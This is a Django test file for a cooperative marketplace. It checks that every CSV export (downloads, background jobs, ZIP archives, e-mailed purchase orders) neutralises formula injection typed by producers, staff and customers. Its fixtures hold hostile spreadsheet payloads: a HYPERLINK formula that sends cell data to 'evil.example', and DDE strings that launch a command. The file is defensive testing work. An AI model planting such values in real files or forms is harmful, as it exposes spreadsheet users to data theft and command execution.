"""Text that producers and customers type comes back from every hub CSV as text, never as a formula:
the consolidated export (download and background file) and the purchase orders (download, ZIP,
e-mail attachment). Files are UTF-8 with a byte-order mark; numbers stay numbers."""

import codecs
import csv
import email
import email.policy
import io
import zipfile
from decimal import Decimal

import pytest
from django import forms
from django.contrib.auth import get_user_model
from django.core import mail
from django.test import Client
from django.urls import reverse
from oscar.core.loading import get_model

from gie.models import CollectionRound, ExportJob
from tests.cooperatives.dashboard.conftest import form_post_data
from tests.fulfilment.helpers import product_of
from tests.gie.conftest import PASSWORD
from tests.journey import ADDRESS, add_to_basket, guest_checkout_until_preview

Order = get_model("order", "Order")
Partner = get_model("partner", "Partner")
Product = get_model("catalogue", "Product")

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1;"Dattes Majhoul")'
HOSTILE_CITY = "+cmd|' /C calc'!A0"
HOSTILE_PRODUCER = "@SUM(1+1)*cmd|' /C calc'!A0"
DATES = "nakhil-aoufous"


def _logged_in(email_address: str) -> Client:
    client = Client()
    client.force_login(get_user_model().objects.get(email=email_address))
    return client


def _unchanged(form) -> dict:
    """What a browser posts back for an unchanged admin form (its file fields left empty)."""
    data = {}
    for name, field in form.fields.items():
        value = form[name].value()
        if isinstance(field, forms.FileField) or value is None or value is False:
            continue
        data[name] = "on" if value is True else value
    return data


def _url(name, **kwargs):
    return reverse(f"gie-dashboard:{name}", kwargs={"slug": "mawrout-bladi", **kwargs})


def _rows(content: bytes) -> list[dict]:
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_csv_download(response, filename: str) -> bytes:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    return response.getvalue()


@pytest.fixture
def hostile(demo, members, django_capture_on_commit_callbacks):
    """Hostile text entered the way users enter it, then an order of it gathered in a round."""
    # the producer renames its dates through its dashboard's product form
    product = product_of(DATES)
    producer = _logged_in("dates@example.com")
    edit = reverse("coop-dashboard:product-edit", kwargs={"pk": product.pk})
    form = producer.get(edit).context["form"]
    assert producer.post(edit, {**form_post_data(form), "title": HOSTILE_TITLE}).status_code == 302
    # platform staff rename the producer in the admin
    nakhil = members[DATES]
    staff = _logged_in("admin@example.com")
    change = reverse("admin:partner_partner_change", args=[nakhil.pk])
    form = staff.get(change).context["adminform"].form
    assert staff.post(change, {**_unchanged(form), "name": HOSTILE_PRODUCER}).status_code == 302
    # a customer orders them through checkout, with a hostile city, paying on delivery
    customer = Client()
    add_to_basket(customer, Product.objects.get(pk=product.pk), 2)
    guest_checkout_until_preview(customer, address={**ADDRESS, "line4": HOSTILE_CITY})
    assert customer.post(reverse("checkout:payment-method"), {"method": "cod"}).status_code == 302
    customer.post(reverse("checkout:preview"), {"action": "place_order"})
    order = Order.objects.get()
    # the coordinator opens a round (the member's purchase order goes out by e-mail)
    coordinator = Client()
    assert coordinator.login(username="gie@example.com", password=PASSWORD)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        coordinator.post(
            _url("rounds"),
            {"name": "R", "collection_date": "2026-11-25", "members": [nakhil.pk]},
        )
    return {
        "order": order,
        "coordinator": coordinator,
        "round": CollectionRound.objects.get(),
        "nakhil": Partner.objects.get(pk=nakhil.pk),
    }


def _assert_consolidated_row_neutralised(row, order):
    assert row["order"] == str(order.number)
    assert row["member"] == "'" + HOSTILE_PRODUCER
    assert row["product"] == "'" + HOSTILE_TITLE
    assert row["destination"] == f"'{HOSTILE_CITY}, MA"
    line = order.lines.get()
    assert (int(row["units_open"]), Decimal(row["amount"])) == (2, line.unit_price_incl_tax * 2)


def test_the_consolidated_download_neutralises_what_users_typed(hostile):
    response = hostile["coordinator"].get(_url("consolidated"), {"export": "csv"})

    [row] = _rows(_assert_csv_download(response, "mawrout-bladi-open-lines.csv"))
    _assert_consolidated_row_neutralised(row, hostile["order"])


def test_the_background_consolidated_export_neutralises_what_users_typed(
    hostile, django_capture_on_commit_callbacks
):
    coordinator = hostile["coordinator"]
    with django_capture_on_commit_callbacks(execute=True):
        coordinator.post(_url("export-start"), {})
    job = ExportJob.objects.get()

    response = coordinator.get(_url("export-download", pk=job.pk))

    [row] = _rows(_assert_csv_download(response, f"mawrout-bladi-open-lines-{job.pk}.csv"))
    _assert_consolidated_row_neutralised(row, hostile["order"])


def _assert_purchase_order_neutralised(rows, order):
    [row] = rows
    line = order.lines.get()
    assert row["product"] == "'" + HOSTILE_TITLE
    assert int(row["quantity"]) == 2
    assert Decimal(row["total"]) == Decimal(row["unit_price_to_producer"]) * 2 > 0
    assert row["order"] == str(order.number) and row["sku"] == line.partner_sku


def test_the_purchase_order_download_zip_and_email_neutralise_what_users_typed(
    hostile, django_capture_on_commit_callbacks
):
    coordinator, round_, nakhil, order = (hostile[k] for k in ("coordinator", "round", "nakhil", "order"))
    name = f"purchase-order-{round_.pk}-{nakhil.slug}"

    # the download
    response = coordinator.get(_url("purchase-order", pk=round_.pk, partner_id=nakhil.pk, fmt="csv"))
    _assert_purchase_order_neutralised(_rows(_assert_csv_download(response, f"{name}.csv")), order)

    # the ZIP of every member's purchase order
    with django_capture_on_commit_callbacks(execute=True):
        coordinator.post(_url("round-purchase-orders-export", pk=round_.pk))
    job = ExportJob.objects.get()
    archive = zipfile.ZipFile(io.BytesIO(coordinator.get(_url("export-download", pk=job.pk)).getvalue()))
    _assert_purchase_order_neutralised(_rows(archive.read(f"{name}.csv")), order)

    # the member's e-mail, read back as sent
    (sent,) = [m for m in mail.outbox if m.to == ["dates@example.com"]]
    parsed = email.message_from_bytes(sent.message().as_bytes(), policy=email.policy.default)
    [attachment] = [part for part in parsed.iter_attachments() if part.get_filename() == f"{name}.csv"]
    assert attachment.get_content_type() == "text/csv"
    _assert_purchase_order_neutralised(_rows(attachment.get_payload(decode=True)), order)
